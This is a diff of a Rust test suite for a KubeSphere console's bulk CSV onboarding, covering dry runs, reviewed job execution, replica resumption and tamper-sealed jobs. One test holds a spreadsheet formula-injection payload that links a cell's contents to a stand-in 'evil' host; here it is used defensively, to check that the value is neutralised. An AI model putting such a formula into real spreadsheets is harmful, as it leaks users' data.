@@ -1,172 +1,32 @@
-//! `/onboard/bulk`: the dry run of a file, posted as a browser does. It says per row what will
-//! happen or why not, sends nothing but reads, and reads in batches (not per row).
+//! Applying a file: the new accounts are made and their passwords shown once, the rest runs as a
+//! job in the database, which only the reviewed calls leave, which another replica resumes, and
+//! which never outlives its owner's sign-in.
 
 use reqwest::{Method, StatusCode};
 
-use crate::common::{reviewed, TestApp};
+use super::{admins_dry_run, apply, dry_run, finished_job, reviewed, HEADER};
+use crate::common::TestApp;
 
-const HEADER: &str = "username,email,display_name,platform_role,workspace,workspace_role,cluster,project,project_role";
-
-async fn dry_run(app: &TestApp, cookie: &str, csv: &str) -> (StatusCode, String) {
-    app.post_page(cookie, "/onboard/bulk", &[("csv", csv)]).await
-}
-
-use crate::common::dry_run_verdict as verdict;
-
-fn upstream_calls(app: &TestApp) -> (usize, usize) {
-    let journal = app.sim.sim.journal();
-    let writes = journal.iter().filter(|e| e.method != "GET").count();
-    (journal.len() - writes, writes)
-}
-
-#[tokio::test]
-async fn the_dry_run_says_per_row_what_will_happen_or_why_not_and_sends_nothing() {
-    let app = TestApp::start().await;
-    let cookie = app.login("admin").await;
-    let csv = format!(
-        "{HEADER}
-mei,mei@example.com,Mei Chen,,demo,regular,,,
-mei,,,,demo,,host,demo-web,viewer
-bob,,,,demo,regular,,,
-carol,,,,demo,admin,,,
-frank,,,platform-self-provisioner,,,,,
-zed,zed@example.com,,,demo,auditor,,,
-omar,,,,demo,,,,
-bob,,,,nowhere,,,,
-bob,,,,team-b,,host,demo-web,
-mei,,,,demo,regular,,,
-mei,,,,demo,viewer,,,
-Bad_Name,x@example.com,,,,,,,
-frank,,,platform-regular,,,,,
-"
-    );
-    app.sim.sim.reset_journal();
-    let (status, html) = dry_run(&app, &cookie, &csv).await;
-    assert_eq!(status, StatusCode::OK, "{html}");
-    let expect = [
-        (2, "create the account mei (mei@example.com) as platform-regular; invite mei to workspace demo as demo-regular"),
-        (3, "invite mei to project demo-web (cluster host) as viewer"),
-        (4, "Nothing to do: bob exists; already in workspace demo as demo-regular."),
-        (5, "change carol's role in workspace demo from demo-viewer to demo-admin"),
-        (6, "change frank's platform role from platform-regular to platform-self-provisioner"),
-        (7, "Cannot: workspace_role \"auditor\" is not a built-in role kind"),
-        (8, "Cannot: omar is a new person: give their e-mail."),
-        (9, "Cannot: there is no workspace nowhere."),
-        (10, "Cannot: there is no project demo-web in workspace team-b on cluster host."),
-        (11, "Cannot: repeats line 2."),
-        (12, "Cannot: conflicts with line 2: another role for mei in workspace demo."),
-        (13, "Cannot: username:"),
-        (14, "Cannot: conflicts with line 6: another platform role for frank."),
-    ];
-    for (line, text) in expect {
-        let got = verdict(&html, line);
-        assert!(got.contains(text), "line {line}: {got:?} does not say {text:?}");
-    }
-    assert!(html.contains("1 admin roles in this file:"), "the admin grant is listed");
-    assert!(
-        html.contains("change carol&#x27;s role in workspace demo from demo-viewer to demo-admin (line 5)")
-            || html.contains("change carol's role in workspace demo from demo-viewer to demo-admin (line 5)")
-    );
-    assert_eq!(upstream_calls(&app).1, 0, "a dry run only reads");
-}
-
-#[tokio::test]
-async fn reads_are_batched_so_their_number_does_not_grow_with_the_rows() {
-    let app = TestApp::start().await;
-    let cookie = app.login("admin").await;
-    let file = |people: usize| {
-        let mut csv = HEADER.to_owned();
-        for i in 0..people {
-            csv.push_str(&format!("\nnew-{i:03},new-{i:03}@example.com,,,demo,,,,"));
-            csv.push_str(&format!("\nnew-{i:03},,,,demo,,host,demo-web,viewer"));
-            csv.push_str(&format!("\nnew-{i:03},,,,team-b,viewer,,,"));
-        }
-        csv
-    };
-    // A first dry run fills the session's cache of the person's own permissions.
-    dry_run(&app, &cookie, &file(1)).await;
-    app.sim.sim.reset_journal();
-    let (_, small) = dry_run(&app, &cookie, &file(5)).await;
-    assert!(small.contains("15 rows: 15 will send changes"), "{small}");
-    let (few, _) = upstream_calls(&app);
-    app.sim.sim.reset_journal();
-    let (_, large) = dry_run(&app, &cookie, &file(40)).await;
-    assert!(large.contains("120 rows: 120 will send changes"));
-    let (many, writes) = upstream_calls(&app);
-    assert_eq!(writes, 0);
-    assert_eq!(many, few, "15 rows took {few} reads, 120 rows {many}: reads must not grow with the rows");
-    assert!(many <= 12, "{many} reads");
-}
-
-#[tokio::test]
-async fn problems_with_the_file_itself_are_said_with_their_line_and_lose_nothing() {
-    let app = TestApp::start().await;
-    let cookie = app.login("admin").await;
-    let cases = [
-        ("", "The file is empty."),
-        ("user,email\nzoe,zoe@example.com", "Line 1: the header must be exactly"),
-        (&*format!("{HEADER}\nzoe,zoe@example.com"), "Line 2: 2 cells where the header has 9."),
-        (&*format!("{HEADER}\n"), "The file has a header but no rows."),
-    ];
-    for (csv, sentence) in cases {
-        let (status, html) = dry_run(&app, &cookie, csv).await;
-        assert_eq!(status, StatusCode::BAD_REQUEST, "{csv:?}");
-        assert!(html.contains(sentence), "{sentence:?} not on the page for {csv:?}");
-        // The text stays in the box, to be corrected.
-        if !csv.is_empty() {
-            assert!(html.contains(&csv.lines().next().unwrap().replace('"', "&quot;")), "the text is kept");
-        }
-    }
-    let mut rows = HEADER.to_owned();
-    for i in 0..1001 {
-        rows.push_str(&format!("\nu{i},u{i}@example.com,,,,,,,"));
-    }
-    let (_, html) = dry_run(&app, &cookie, &rows).await;
-    assert!(html.contains("The file has 1001 rows; at most 1000 fit in one file."), "too many rows");
-    // A body beyond the upload's own bound is refused before it is read.
-    let huge = "x".repeat(600 * 1024);
-    let res =
-        app.request(Method::POST, "/onboard/bulk", Some(&cookie)).form(&[("csv", huge.as_str())]).send().await.unwrap();
-    assert_eq!(res.status(), StatusCode::PAYLOAD_TOO_LARGE);
-}
-
-#[tokio::test]
-async fn a_team_lead_may_onboard_only_into_what_they_manage() {
-    let app = TestApp::start().await;
-    // alice manages demo; she sees team-b nowhere.
-    let cookie = app.login("alice").await;
-    let csv = format!("{HEADER}\nfrank,,,,demo,viewer,,,\nfrank,,,,team-b,viewer,,,\n");
-    let (_, html) = dry_run(&app, &cookie, &csv).await;
-    assert!(verdict(&html, 2).contains("invite frank to workspace demo as demo-viewer"), "{html}");
-    assert!(verdict(&html, 3).contains("Cannot: you may not manage the members of workspace team-b"));
-}
-
-async fn apply(app: &TestApp, cookie: &str, csv: &str, reviewed: &str, confirm: bool) -> (StatusCode, String) {
-    let mut form = vec![("csv", csv), ("reviewed", reviewed), ("step", "apply")];
-    if confirm {
-        form.push(("confirm_admin", "yes"));
-    }
-    app.post_page(cookie, "/onboard/bulk", &form).await
-}
-
-async fn finished_job(app: &TestApp, cookie: &str, html: &str) -> String {
-    app.finished_job(cookie, html).await
+/// The address of the SQLite file of a console's activity log and jobs, in folder `dir`.
+fn database_in(dir: &std::path::Path) -> String {
+    format!("sqlite://{}/activity.db", dir.display())
 }
 
 /// A console whose activity log and jobs are in a SQLite file of its own (the file's address and
-/// folder, to read it and remove it); `resume_secs` other than 0: how often it looks for stopped jobs.
-async fn app_with_a_database_file(what: &str, resume_secs: u64) -> (TestApp, std::path::PathBuf, String) {
+/// folder, to read it and remove it), configured further by `configure`.
+async fn app_with_a_database_file(
+    what: &str,
+    configure: impl FnOnce(&mut server::Config),
+) -> (TestApp, std::path::PathBuf, String) {
     let dir = std::env::temp_dir().join(format!("ks-console-{what}-{}", uuid::Uuid::new_v4()));
-    let db = format!("sqlite://{}/activity.db", dir.display());
+    let db = database_in(&dir);
     let app = TestApp::builder()
         .config({
             let db = db.clone();
             move |c| {
                 c.activity_db = db;
                 c.session_secret = Some(server::config::SecretText(JOB_SECRET.into()));
-                if resume_secs > 0 {
-                    c.bulk_resume_secs = resume_secs;
-                }
+                configure(c);
             }
         })
         .start()
@@ -174,15 +34,29 @@ async fn app_with_a_database_file(what: &str, resume_secs: u64) -> (TestApp, std
     (app, dir, db)
 }
 
-/// A console whose replicas look for stopped jobs every second, with its SQLite file; an admin's
-/// cookie and the key of that session (whose token a stored job acts with).
-async fn resuming_app(what: &str) -> (TestApp, std::path::PathBuf, String, String, String) {
-    let (app, dir, db) = app_with_a_database_file(what, 1).await;
+/// A console whose replicas look for stopped jobs every second, with its SQLite file (its folder
+/// and a pool on it); an admin's cookie and the key of that session (whose token a stored job
+/// acts with).
+async fn resuming_app(what: &str) -> (TestApp, std::path::PathBuf, sqlx::SqlitePool, String, String) {
+    resuming_app_with(what, |_| {}).await
+}
+
+/// A `resuming_app`, configured further by `configure`.
+async fn resuming_app_with(
+    what: &str,
+    configure: impl FnOnce(&mut server::Config),
+) -> (TestApp, std::path::PathBuf, sqlx::SqlitePool, String, String) {
+    let (app, dir, db) = app_with_a_database_file(what, |c| {
+        c.bulk_resume_secs = 1;
+        configure(c);
+    })
+    .await;
     let cookie = app.login("admin").await;
     // Reading the log waits for the tables; the session's token is in the vault.
     assert_eq!(app.submit(&cookie, "list_activity", &[]).await.0, StatusCode::OK);
     let session_key = app.memory.tokens.keys().pop().expect("a signed-in session");
-    (app, dir, db, cookie, session_key)
+    let pool = sqlx::SqlitePool::connect(&db).await.unwrap();
+    (app, dir, pool, cookie, session_key)
 }
 
 /// The `SESSION_SECRET` of the consoles whose jobs the tests resume: another replica has it too.
@@ -218,28 +92,10 @@ async fn insert_job(
 }
 
 #[tokio::test]
-async fn display_names_are_bounded_and_e_mails_are_parsed_whenever_given() {
-    let app = TestApp::start().await;
-    let cookie = app.login("admin").await;
-    let long = "n".repeat(129);
-    let csv = format!(
-        "{HEADER}\nmei,mei@example.com,{long},,demo,regular,,,\nomar,omar@example.com,\"Omar\tK\",,demo,,,,\nfrank,not-an-address,,,demo,viewer,,,\nzoe,zoe@example.com,=Zoe,,demo,,,,\n"
-    );
-    let (status, html) = dry_run(&app, &cookie, &csv).await;
-    assert_eq!(status, StatusCode::OK, "{html}");
-    assert!(verdict(&html, 2).contains("display_name") && verdict(&html, 2).contains("128"), "{}", verdict(&html, 2));
-    assert!(verdict(&html, 3).contains("control characters"), "{}", verdict(&html, 3));
-    assert!(verdict(&html, 4).contains("email"), "an existing person's bad address too: {}", verdict(&html, 4));
-    assert!(verdict(&html, 5).contains("create the account zoe"), "free text may start with =: {}", verdict(&html, 5));
-}
-
-#[tokio::test]
 async fn the_result_file_writes_a_would_be_formula_as_text_and_kubesphere_gets_it_as_typed() {
-    let app = TestApp::start().await;
-    let cookie = app.login("admin").await;
     let evil = r#"=HYPERLINK("https://evil/?"&A2,"details")"#;
-    let csv = format!("{HEADER}\nmei,mei@example.com,\"{}\",,demo,regular,,,\n", evil.replace('"', "\"\""));
-    let (_, run) = dry_run(&app, &cookie, &csv).await;
+    let (app, cookie, csv, run) =
+        admins_dry_run(&format!("mei,mei@example.com,\"{}\",,demo,regular,,,", evil.replace('"', "\"\""))).await;
     let (status, html) = apply(&app, &cookie, &csv, &reviewed(&run), false).await;
     assert_eq!(status, StatusCode::OK, "{html}");
     let page = finished_job(&app, &cookie, &html).await;
@@ -255,7 +111,7 @@ async fn the_result_file_writes_a_would_be_formula_as_text_and_kubesphere_gets_i
 
 #[tokio::test]
 async fn apply_makes_the_accounts_shows_their_passwords_once_and_runs_the_rest_as_a_job() {
-    let (app, dir, db) = app_with_a_database_file("bulk", 0).await;
+    let (app, dir, db) = app_with_a_database_file("bulk", |_| {}).await;
     let cookie = app.login("admin").await;
     let csv = format!(
         "{HEADER}
@@ -283,14 +139,7 @@ zed,zed@example.com,,,demo,auditor,,,
     let page = finished_job(&app, &cookie, &html).await;
     assert!(page.contains("Done: all 4 rows applied."), "{page}");
 
-    let mut writes: Vec<String> = app
-        .sim
-        .sim
-        .journal()
-        .into_iter()
-        .filter(|e| e.method != "GET")
-        .map(|e| format!("{} {} {}", e.method, e.path, e.body.map(|b| b.to_string()).unwrap_or_default()))
-        .collect();
+    let mut writes: Vec<String> = writes_with_bodies(&app);
     writes.sort();
     assert_eq!(writes.len(), 6, "{writes:#?}");
     assert_eq!(writes.iter().filter(|w| w.starts_with("POST /kapis/iam.kubesphere.io/v1beta1/users ")).count(), 2);
@@ -338,10 +187,7 @@ zed,zed@example.com,,,demo,auditor,,,
 
 #[tokio::test]
 async fn apply_sends_nothing_the_dry_run_did_not_show_and_admin_roles_need_the_confirmation() {
-    let app = TestApp::start().await;
-    let cookie = app.login("admin").await;
-    let csv = format!("{HEADER}\nfrank,,,,demo,admin,,,\n");
-    let (_, run) = dry_run(&app, &cookie, &csv).await;
+    let (app, cookie, csv, run) = admins_dry_run("frank,,,,demo,admin,,,").await;
     assert!(run.contains("Yes, grant the 1 admin roles listed above."), "{run}");
     let plan = reviewed(&run);
     app.sim.sim.reset_journal();
@@ -355,53 +201,36 @@ async fn apply_sends_nothing_the_dry_run_did_not_show_and_admin_roles_need_the_c
     let page = finished_job(&app, &cookie, &html).await;
     assert!(page.contains("Done: all 1 rows applied."), "{page}");
     // Someone else cannot read the job.
-    let marker = "href=\"/onboard/bulk/jobs/";
-    let start = html.find(marker).unwrap() + "href=\"".len();
-    let path = &html[start..start + html[start..].find('"').unwrap()];
+    let path = crate::shared::job_link(&html);
     let alice = app.login("alice").await;
-    let res = app.request(Method::GET, path, Some(&alice)).send().await.unwrap();
+    let res = app.get(&alice, path).await;
     assert_eq!(res.status(), StatusCode::NOT_FOUND);
 }
 
 #[tokio::test]
 async fn a_job_whose_replica_stopped_is_resumed_from_where_it_was() {
-    let (app, dir, db, cookie, session_key) = resuming_app("resume").await;
+    let (app, dir, pool, cookie, session_key) = resuming_app("resume").await;
 
     // A job as another replica left it: it held the lease (now lapsed), and it had finished
     // line 2 (recorded as done) but not lines 3 and 4.
-    let rows = serde_json::json!([
-        {"line": 2, "username": "frank", "email": "", "display_name": "", "platform_role": "", "workspace": "team-b",
-         "workspace_role": "viewer", "cluster": "", "project": "", "project_role": ""},
-        {"line": 3, "username": "frank", "email": "", "display_name": "", "platform_role": "", "workspace": "demo",
-         "workspace_role": "regular", "cluster": "", "project": "", "project_role": ""},
-        {"line": 4, "username": "frank", "email": "", "display_name": "", "platform_role": "", "workspace": "demo",
-         "workspace_role": "", "cluster": "host", "project": "demo-web", "project_role": "viewer"}
+    let rows = stored_rows(&[
+        (2, "frank,,,,team-b,viewer,,,"),
+        (3, "frank,,,,demo,regular,,,"),
+        (4, "frank,,,,demo,,host,demo-web,viewer"),
     ]);
-    let pool = sqlx::SqlitePool::connect(&db).await.unwrap();
+    // This console may resume the job as soon as it is stored: what it sends is counted from here.
+    app.sim.sim.reset_journal();
     insert_job(&pool, "stopped-job", &session_key, &rows, None, 1).await;
-    sqlx::query("INSERT INTO bulk_job_results (job_id, seq, line, outcome, message) VALUES ('stopped-job', 0, 2, 'done', 'invite frank to workspace team-b as team-b-viewer')")
-        .execute(&pool)
-        .await
-        .unwrap();
+    line_2_done(&pool, "stopped-job").await;
     // And one another replica is running right now (its lease is current): its page shows the
     // live bar (an island; the page refreshes itself only without scripts), which asks for a
     // few numbers, and only its owner may.
     insert_job(&pool, "held-job", &session_key, &rows, None, 9_000_000_000_000).await;
-    sqlx::query("INSERT INTO bulk_job_results (job_id, seq, line, outcome, message) VALUES ('held-job', 0, 2, 'done', 'invite frank to workspace team-b as team-b-viewer')")
-        .execute(&pool)
-        .await
-        .unwrap();
+    line_2_done(&pool, "held-job").await;
     let (status, progress) = app.submit(&cookie, "bulk_job_progress", &[("id", "held-job")]).await;
     assert_eq!(status, StatusCode::OK);
     assert_eq!(progress, serde_json::json!({"finished": 1, "total": 3, "running": true}));
-    let held = app
-        .request(Method::GET, "/onboard/bulk/jobs/held-job", Some(&cookie))
-        .send()
-        .await
-        .unwrap()
-        .text()
-        .await
-        .unwrap();
+    let held = app.page(&cookie, "/onboard/bulk/jobs/held-job").await;
     assert!(held.contains("<leptos-island") && held.contains("LiveProgress") && held.contains(".wasm"), "{held}");
     assert!(
         held.contains(r#"<noscript><meta http-equiv="refresh" content="2"/></noscript>"#)
@@ -411,18 +240,12 @@ async fn a_job_whose_replica_stopped_is_resumed_from_where_it_was() {
     assert!(held.contains("Applying: 1 of 3 rows done."));
     let other = app.login("carol").await;
     assert_eq!(app.submit(&other, "bulk_job_progress", &[("id", "held-job")]).await.0, StatusCode::NOT_FOUND);
-    app.sim.sim.reset_journal();
 
     let page = finished_job(&app, &cookie, "href=\"/onboard/bulk/jobs/stopped-job\"").await;
     assert!(page.contains("Done: all 3 rows applied."), "{page}");
-    let writes: Vec<String> = app
-        .sim
-        .sim
-        .journal()
-        .into_iter()
-        .filter(|e| e.method != "GET")
-        .map(|e| format!("{} {}", e.method, e.path))
-        .collect();
+    // Sent since the jobs were stored, carol's sign-in aside: none of the held job's rows.
+    let writes: Vec<String> =
+        app.upstream_changes().into_iter().map(|(method, path, _)| format!("{method} {path}")).collect();
     assert_eq!(
         writes,
         [
@@ -434,16 +257,53 @@ async fn a_job_whose_replica_stopped_is_resumed_from_where_it_was() {
     std::fs::remove_dir_all(dir).ok();
 }
 
+/// A job's rows as a replica stores them: each its line number in the file and that line
+/// (`username,email,display_name,platform_role,workspace,workspace_role,cluster,project,project_role`).
+fn stored_rows(rows: &[(u32, &str)]) -> serde_json::Value {
+    use app::bulk::COLUMNS;
+    let row = |(line, csv): &(u32, &str)| {
+        let values: Vec<&str> = csv.split(',').collect();
+        assert_eq!(values.len(), COLUMNS.len(), "{csv}");
+        let mut row = serde_json::Map::from_iter([("line".to_owned(), serde_json::Value::from(*line))]);
+        row.extend(COLUMNS.iter().zip(values).map(|(column, value)| ((*column).to_owned(), value.into())));
+        serde_json::Value::Object(row)
+    };
+    rows.iter().map(row).collect()
+}
+
+/// Runs one statement on a console's database, as a test arranges what another replica left.
+async fn execute(pool: &sqlx::SqlitePool, sql: &str) {
+    sqlx::query(sql).execute(pool).await.unwrap();
+}
+
+/// Another replica finished line 2 of job `id` (which invites frank to team-b).
+async fn line_2_done(pool: &sqlx::SqlitePool, id: &str) {
+    sqlx::query(
+        "INSERT INTO bulk_job_results (job_id, seq, line, outcome, message) \
+         VALUES (?, 0, 2, 'done', 'invite frank to workspace team-b as team-b-viewer')",
+    )
+    .bind(id)
+    .execute(pool)
+    .await
+    .unwrap();
+}
+
+/// What KubeSphere was sent (anything but reads), as `METHOD path body`.
+fn writes_with_bodies(app: &TestApp) -> Vec<String> {
+    let body = |e: &ks_sim::JournalEntry| e.body.as_ref().map(ToString::to_string).unwrap_or_default();
+    app.writes().iter().map(|e| format!("{} {} {}", e.method, e.path, body(e))).collect()
+}
+
 /// A job's page as a reader in `lang` sees it.
 async fn job_page_in(app: &TestApp, cookie: &str, id: &str, lang: &str) -> String {
     let cookie = format!("{cookie}; i18n_pref_locale={lang}");
     let path = format!("/onboard/bulk/jobs/{id}");
-    app.request(Method::GET, &path, Some(&cookie)).send().await.unwrap().text().await.unwrap()
+    app.page(&cookie, &path).await
 }
 
 #[tokio::test]
 async fn a_jobs_results_read_in_the_readers_language_old_results_as_they_were_written() {
-    let (app, dir, db) = app_with_a_database_file("typed", 0).await;
+    let (app, dir, db) = app_with_a_database_file("typed", |_| {}).await;
     let cookie = app.login("admin").await;
     let csv = format!("{HEADER}\nfrank,,,,demo,viewer,,,\nfrank,,,,team-b,viewer,,,\n");
     let (_, run) = dry_run(&app, &cookie, &csv).await;
@@ -476,33 +336,24 @@ async fn a_jobs_results_read_in_the_readers_language_old_results_as_they_were_wr
     // The activity log too: the failed change's reason in the reader's language, an entry
     // stored before reasons were typed in its own words.
     let zh_cookie = format!("{cookie}; i18n_pref_locale=zh");
-    let log = app.request(Method::GET, "/activity", Some(&zh_cookie)).send().await.unwrap().text().await.unwrap();
+    let log = app.page(&zh_cookie, "/activity").await;
     assert!(log.contains("KubeSphere 不允许您执行此操作"), "the reason in Chinese: {log}");
-    sqlx::query("UPDATE activity SET reason_json = NULL, message = 'said long ago' WHERE outcome = 'failed'")
-        .execute(&pool)
-        .await
-        .unwrap();
-    let log = app.request(Method::GET, "/activity", Some(&zh_cookie)).send().await.unwrap().text().await.unwrap();
+    execute(&pool, "UPDATE activity SET reason_json = NULL, message = 'said long ago' WHERE outcome = 'failed'").await;
+    let log = app.page(&zh_cookie, "/activity").await;
     assert!(log.contains("said long ago"), "{log}");
     std::fs::remove_dir_all(dir).ok();
 }
 
 #[tokio::test]
 async fn a_job_sends_only_the_reviewed_calls_and_never_an_unreviewed_role_change() {
-    let (app, dir, db, cookie, session_key) = resuming_app("exact").await;
+    let (app, dir, pool, cookie, session_key) = resuming_app("exact").await;
     // Reviewed: invite carol to demo as demo-regular. Meanwhile carol is in demo as demo-viewer
     // (the seed): sending now would be a role change nobody reviewed.
-    let rows = serde_json::json!([
-        {"line": 2, "username": "carol", "email": "", "display_name": "", "platform_role": "", "workspace": "demo",
-         "workspace_role": "regular", "cluster": "", "project": "", "project_role": ""},
-        {"line": 3, "username": "frank", "email": "", "display_name": "", "platform_role": "", "workspace": "demo",
-         "workspace_role": "regular", "cluster": "", "project": "", "project_role": ""}
-    ]);
+    let rows = stored_rows(&[(2, "carol,,,,demo,regular,,,"), (3, "frank,,,,demo,regular,,,")]);
     let reviewed = serde_json::json!([
         [2, [{"InviteToWorkspace": {"user": "carol", "workspace": "demo", "role": "demo-regular"}}]],
         [3, [{"InviteToWorkspace": {"user": "frank", "workspace": "demo", "role": "demo-regular"}}]]
     ]);
-    let pool = sqlx::SqlitePool::connect(&db).await.unwrap();
     insert_job(&pool, "exact-job", &session_key, &rows, Some(&reviewed), 1).await;
     app.sim.sim.reset_journal();
     let page = finished_job(&app, &cookie, "href=\"/onboard/bulk/jobs/exact-job\"").await;
@@ -511,14 +362,7 @@ async fn a_job_sends_only_the_reviewed_calls_and_never_an_unreviewed_role_change
             || page.contains("this row's calls are not the ones reviewed any more"),
         "{page}"
     );
-    let writes: Vec<String> = app
-        .sim
-        .sim
-        .journal()
-        .into_iter()
-        .filter(|e| e.method != "GET")
-        .map(|e| format!("{} {} {}", e.method, e.path, e.body.map(|b| b.to_string()).unwrap_or_default()))
-        .collect();
+    let writes: Vec<String> = writes_with_bodies(&app);
     assert_eq!(writes.len(), 1, "only frank's reviewed invitation: {writes:#?}");
     assert!(writes[0].contains("frank") && !writes.iter().any(|w| w.contains("carol")));
     std::fs::remove_dir_all(dir).ok();
@@ -526,12 +370,8 @@ async fn a_job_sends_only_the_reviewed_calls_and_never_an_unreviewed_role_change
 
 #[tokio::test]
 async fn a_job_inserted_or_edited_in_the_database_is_never_run_and_an_ended_one_keeps_no_session() {
-    let (app, dir, db, cookie, session_key) = resuming_app("sealed").await;
-    let rows = serde_json::json!([
-        {"line": 2, "username": "frank", "email": "", "display_name": "", "platform_role": "platform-admin",
-         "workspace": "demo", "workspace_role": "admin", "cluster": "", "project": "", "project_role": ""}
-    ]);
-    let pool = sqlx::SqlitePool::connect(&db).await.unwrap();
+    let (app, dir, pool, cookie, session_key) = resuming_app("sealed").await;
+    let rows = stored_rows(&[(2, "frank,,,platform-admin,demo,admin,,,")]);
     // Hand-inserted, as the previous version stored jobs: plain columns, the session key in clear.
     sqlx::query(
         "INSERT INTO bulk_jobs (id, owner, session_key, created_ms, state, message, rows_json, lease_owner, \
@@ -544,10 +384,8 @@ async fn a_job_inserted_or_edited_in_the_database_is_never_run_and_an_ended_one_
     .unwrap();
     // Sealed by a replica, then its seal edited.
     insert_job(&pool, "edited-job", &session_key, &rows, None, 9_000_000_000_000).await;
-    sqlx::query("UPDATE bulk_jobs SET seal = 'A' || substr(seal, 2), lease_until_ms = 1 WHERE id = 'edited-job'")
-        .execute(&pool)
-        .await
-        .unwrap();
+    execute(&pool, "UPDATE bulk_jobs SET seal = 'A' || substr(seal, 2), lease_until_ms = 1 WHERE id = 'edited-job'")
+        .await;
     app.sim.sim.reset_journal();
     for job in ["forged-job", "edited-job"] {
         let page = finished_job(&app, &cookie, &format!("href=\"/onboard/bulk/jobs/{job}\"")).await;
@@ -563,32 +401,13 @@ async fn a_job_inserted_or_edited_in_the_database_is_never_run_and_an_ended_one_
 
 #[tokio::test]
 async fn a_job_never_outlives_its_owners_sign_in() {
-    let dir = std::env::temp_dir().join(format!("ks-console-lifetime-{}", uuid::Uuid::new_v4()));
-    let db = format!("sqlite://{}/activity.db", dir.display());
-    let app = TestApp::builder()
-        .config({
-            let db = db.clone();
-            move |c| {
-                c.activity_db = db;
-                c.session_secret = Some(server::config::SecretText(JOB_SECRET.into()));
-                c.bulk_resume_secs = 1;
-                c.session_max_lifetime_secs = 2;
-            }
-        })
-        .start()
-        .await;
-    let cookie = app.login("admin").await;
-    assert_eq!(app.submit(&cookie, "list_activity", &[]).await.0, StatusCode::OK);
-    let session_key = app.memory.tokens.keys().pop().expect("a signed-in session");
-    let rows = serde_json::json!([
-        {"line": 2, "username": "frank", "email": "", "display_name": "", "platform_role": "", "workspace": "demo",
-         "workspace_role": "viewer", "cluster": "", "project": "", "project_role": ""}
-    ]);
-    let pool = sqlx::SqlitePool::connect(&db).await.unwrap();
+    let (app, dir, pool, _cookie, session_key) =
+        resuming_app_with("lifetime", |c| c.session_max_lifetime_secs = 2).await;
+    let rows = stored_rows(&[(2, "frank,,,,demo,viewer,,,")]);
     // Held by another replica until the sign-in is past its lifetime, then left.
     insert_job(&pool, "late-job", &session_key, &rows, None, 9_000_000_000_000).await;
     tokio::time::sleep(std::time::Duration::from_millis(2100)).await;
-    sqlx::query("UPDATE bulk_jobs SET lease_until_ms = 1 WHERE id = 'late-job'").execute(&pool).await.unwrap();
+    execute(&pool, "UPDATE bulk_jobs SET lease_until_ms = 1 WHERE id = 'late-job'").await;
     app.sim.sim.reset_journal();
     for _ in 0..100 {
         let state: (String,) =
@@ -608,8 +427,7 @@ async fn a_job_never_outlives_its_owners_sign_in() {
 
 #[tokio::test]
 async fn finished_jobs_are_pruned_after_the_retention() {
-    let (app, dir, db, _cookie, _key) = resuming_app("prune").await;
-    let pool = sqlx::SqlitePool::connect(&db).await.unwrap();
+    let (app, dir, pool, _cookie, _key) = resuming_app("prune").await;
     for (id, ended) in [("old-job", 1_i64), ("new-job", i64::MAX / 2)] {
         sqlx::query(
             "INSERT INTO bulk_jobs (id, owner, session_key, created_ms, state, message, rows_json, lease_owner, \
@@ -623,13 +441,7 @@ async fn finished_jobs_are_pruned_after_the_retention() {
     }
     drop(app);
     // The next console on this database prunes as it starts, then hourly.
-    let _again = TestApp::builder()
-        .config({
-            let db = db.clone();
-            move |c| c.activity_db = db
-        })
-        .start()
-        .await;
+    let _again = TestApp::builder().config(|c| c.activity_db = database_in(&dir)).start().await;
     let mut left: Vec<(String,)> = Vec::new();
     for _ in 0..50 {
         left = sqlx::query_as("SELECT id FROM bulk_jobs").fetch_all(&pool).await.unwrap();
@@ -644,10 +456,7 @@ async fn finished_jobs_are_pruned_after_the_retention() {
 
 #[tokio::test]
 async fn a_plain_form_posted_to_apply_is_not_run_so_no_password_lands_in_the_session() {
-    let app = TestApp::start().await;
-    let cookie = app.login("admin").await;
-    let csv = format!("{HEADER}\nmei,mei@example.com,,,demo,regular,,,\n");
-    let (_, run) = dry_run(&app, &cookie, &csv).await;
+    let (app, cookie, csv, run) = admins_dry_run("mei,mei@example.com,,,demo,regular,,,").await;
     let plan = reviewed(&run);
     app.sim.sim.reset_journal();
     for (path, form) in [
@@ -686,14 +495,10 @@ async fn with_the_database_down_an_apply_is_refused_before_any_account_is_made()
 
 #[tokio::test]
 async fn kubesphere_away_pauses_a_job_and_its_rows_are_sent_when_it_is_back() {
-    let (app, dir, db, cookie, session_key) = resuming_app("pause").await;
-    let rows = serde_json::json!([
-        {"line": 2, "username": "frank", "email": "", "display_name": "", "platform_role": "", "workspace": "demo",
-         "workspace_role": "viewer", "cluster": "", "project": "", "project_role": ""}
-    ]);
+    let (app, dir, pool, cookie, session_key) = resuming_app("pause").await;
+    let rows = stored_rows(&[(2, "frank,,,,demo,viewer,,,")]);
     let members = "/kapis/iam.kubesphere.io/v1beta1/workspaces/demo/workspacemembers";
     app.sim.sim.inject(ks_sim::Fault::status(members, 503, None).method("POST").times(1));
-    let pool = sqlx::SqlitePool::connect(&db).await.unwrap();
     insert_job(&pool, "paused-job", &session_key, &rows, None, 1).await;
     let page = finished_job(&app, &cookie, "href=\"/onboard/bulk/jobs/paused-job\"").await;
     assert!(page.contains("Done: all 1 rows applied.") || page.contains("Done: all 1 row applied."), "{page}");
@@ -714,12 +519,8 @@ async fn kubesphere_away_pauses_a_job_and_its_rows_are_sent_when_it_is_back() {
 
 #[tokio::test]
 async fn a_job_refused_its_reads_ends_and_one_that_keeps_failing_ends_after_five_runs() {
-    let (app, dir, db, cookie, session_key) = resuming_app("ends").await;
-    let rows = serde_json::json!([
-        {"line": 2, "username": "frank", "email": "", "display_name": "", "platform_role": "", "workspace": "demo",
-         "workspace_role": "viewer", "cluster": "", "project": "", "project_role": ""}
-    ]);
-    let pool = sqlx::SqlitePool::connect(&db).await.unwrap();
+    let (app, dir, pool, cookie, session_key) = resuming_app("ends").await;
+    let rows = stored_rows(&[(2, "frank,,,,demo,viewer,,,")]);
     let state = |id: &'static str| {
         let pool = pool.clone();
         async move {
